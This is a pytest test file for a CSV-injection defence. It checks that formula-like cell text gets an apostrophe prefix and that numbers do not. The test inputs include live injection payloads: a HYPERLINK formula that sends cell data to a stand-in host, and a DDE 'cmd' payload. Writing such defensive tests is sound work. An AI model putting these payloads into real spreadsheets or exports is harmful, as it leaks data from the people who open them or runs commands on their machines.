"""The CSV-injection rule: text a spreadsheet would run gets an apostrophe; numbers do not."""

from __future__ import annotations

import io

import pytest

from innostudy.cells import csv_writer, is_formula_like, neutralise, restore


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "- more staff",
        "+44 20 7946 0000",
        "=",
    ],
)
def test_formula_like_text_gets_an_apostrophe_and_comes_back(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "text", ["-3", "+44", "-0.5", "1e-5", "-.5", "plain", "", "'quoted", "a=b", " =x"]
)
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_restore_only_removes_an_apostrophe_neutralise_could_have_added() -> None:
    assert restore("'-3") == "'-3"  # neutralise never quotes a number
    assert restore("'hello") == "'hello"
    assert restore("''=x") == "''=x"


@pytest.mark.parametrize(("keep", "cell"), [(False, "'=1+1"), (True, "=1+1")])
def test_the_writer_neutralises_text_cells_only(keep: bool, cell: str) -> None:
    out = io.StringIO()
    csv_writer(out, keep_formulas=keep, lineterminator="\n").writerow(["=1+1", -3, None, "ok"])
    assert out.getvalue() == f"{cell},-3,,ok\n"
